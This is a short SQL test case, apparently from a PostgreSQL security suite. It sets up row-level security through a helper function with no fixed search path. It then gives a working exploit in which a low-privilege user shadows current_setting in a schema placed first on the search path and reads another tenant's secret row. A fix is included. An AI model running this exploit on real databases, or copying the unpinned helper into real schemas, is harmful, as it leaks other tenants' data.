-- What: The policies' helper has no search path of its own, and
--   the application may create objects: what current_setting means is the caller's to say.
-- Class: function_search_path
-- Object: public.current_tenant
-- Exploit: A current_setting of the attacker's own, in a schema that stands first.
-- @superuser
create function current_tenant() returns text language plpgsql stable as $$ begin return current_setting('app.tenant_id', true); end $$;
create table items (id bigint generated always as identity primary key, tenant_id uuid not null, body text not null);
alter table items enable row level security;
alter table items force row level security;
create policy tenant on items using (tenant_id::text = current_tenant());
grant select, insert, update, delete on items to app_user;
create schema sandbox authorization app_user;
-- @rows
insert into items (tenant_id, body) values (:'A', 'A-row'), (:'B', 'B-secret');
-- @fix
alter function current_tenant() set search_path = pg_catalog, pg_temp;
-- @control
select from items where tenant_id = :'A';
-- @exploit
create function sandbox.current_setting(text, boolean) returns text language sql as $$ select 'bbbbbbbb-0000-4000-8000-000000000002' $$;
set search_path = sandbox, pg_catalog, public;
select body from items where body = 'B-secret';
